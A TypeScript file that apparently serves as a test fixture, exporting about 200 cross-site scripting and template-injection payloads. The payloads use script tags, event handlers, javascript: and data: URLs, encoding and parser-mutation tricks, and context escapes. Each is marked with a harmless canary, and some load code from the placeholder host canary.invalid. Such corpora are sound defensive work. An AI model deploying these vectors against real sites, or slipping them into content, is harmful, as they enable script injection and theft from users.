/**
 * 200 texts that are a program to whoever takes them for markup, a template or an address. Each marks itself: an element made of one has
 * the attribute `data-canary`, code in one calls `canary()`, and an address in one leads to canary.invalid.
 */

const RUN = 'canary(1)'
const MARK = 'data-canary=1'
const AWAY = '//canary.invalid/x'

const ELEMENTS: readonly string[] = [
  `<script ${MARK}>${RUN}</script>`,
  `<script ${MARK} src=${AWAY}></script>`,
  `<img ${MARK} src=x onerror=${RUN}>`,
  `<img ${MARK} src=${AWAY}>`,
  `<svg ${MARK} onload=${RUN}>`,
  `<svg ${MARK}><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<iframe ${MARK} srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe ${MARK} src="javascript:parent.${RUN}"></iframe>`,
  `<body ${MARK} onload=${RUN}>`,
  `<video ${MARK}><source onerror=${RUN}></video>`,
  `<audio ${MARK} src=x onerror=${RUN}>`,
  `<details ${MARK} open ontoggle=${RUN}>`,
  `<input ${MARK} autofocus onfocus=${RUN}>`,
  `<a ${MARK} href="javascript:${RUN}">oi</a>`,
  `<form ${MARK} action="javascript:${RUN}"><button>oi</button></form>`,
  `<object ${MARK} data="javascript:${RUN}"></object>`,
  `<embed ${MARK} src="${AWAY}">`,
  `<math ${MARK} href="javascript:${RUN}">oi</math>`,
  `<style ${MARK}>@import '${AWAY}';</style>`,
  `<link ${MARK} rel=stylesheet href=${AWAY}>`,
  `<meta ${MARK} http-equiv=refresh content="0;url=${AWAY}">`,
  `<base ${MARK} href=${AWAY}>`,
]

/** What could end the place a text was put into. */
const ESCAPES: readonly string[] = ['', '">', "'>", '</script>', '-->', '</textarea>', '</title></style>']

/** Code for what is not markup: addresses, templates, other notations of the same characters, WhatsApp's own marks around it. */
const OTHERS: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://example.com/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,${Buffer.from(`<script>${RUN}</script>`).toString('base64')}`,
  `vbscript:${RUN}`,
  `https://example.com/"onmouseover="${RUN}"${MARK} "`,
  `https://example.com/'onfocus='${RUN}' autofocus ${MARK} '`,
  `http://javascript:${RUN}@example.com/`,
  `[oi](javascript:${RUN})`,
  `![oi](${AWAY})`,
  `*<img ${MARK} src=x onerror=${RUN}>*`,
  `_~<svg ${MARK} onload=${RUN}>~_`,
  `\`\`\`<script ${MARK}>${RUN}</script>\`\`\``,
  `&lt;script ${MARK}&gt;${RUN}&lt;/script&gt;`,
  `&#60;img ${MARK} src=x onerror=${RUN}&#62;`,
  `\\u003cscript ${MARK}\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript ${MARK}%3E${RUN}%3C/script%3E`,
  `\uff1cscript ${MARK}\uff1e${RUN}\uff1c/script\uff1e`,
  `<scr<script>ipt ${MARK}>${RUN}</scr</script>ipt>`,
  `<<script ${MARK}>${RUN}//<</script>`,
  `<img/${MARK}/src=x/onerror=${RUN}>`,
  `<img ${MARK} src=x onerror\n=\n${RUN}>`,
  `<!--[if gte IE 4]><script ${MARK}>${RUN}</script><![endif]-->`,
  `<![CDATA[<script ${MARK}>${RUN}</script>]]>`,
  `<noscript><p title="</noscript><img ${MARK} src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><img ${MARK} src=x onerror=${RUN}>`,
  `<template shadowrootmode=open><script ${MARK}>${RUN}</script></template>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\\";${RUN};//`,
  `</p><p ${MARK} style="background:url(${AWAY})">`,
  `{"dangerouslySetInnerHTML":{"__html":"<img ${MARK} src=x onerror=${RUN}>"}}`,
  `\u202e<img ${MARK} src=x onerror=${RUN}>\u202c`,
  `oi\u2028<script ${MARK}>${RUN}</script>`,
  `<plaintext ${MARK}>`,
  `<xmp ${MARK}><script>${RUN}</script>`,
  `<title ${MARK}>${RUN}</title>`,
  `<button ${MARK} popovertarget=x onbeforetoggle=${RUN}>oi</button>`,
  `<canary-el ${MARK} onfocus=${RUN} tabindex=1 autofocus>`,
]

export const PAYLOADS: readonly string[] = [...ESCAPES.flatMap((way) => ELEMENTS.map((element) => way + element)), ...OTHERS]
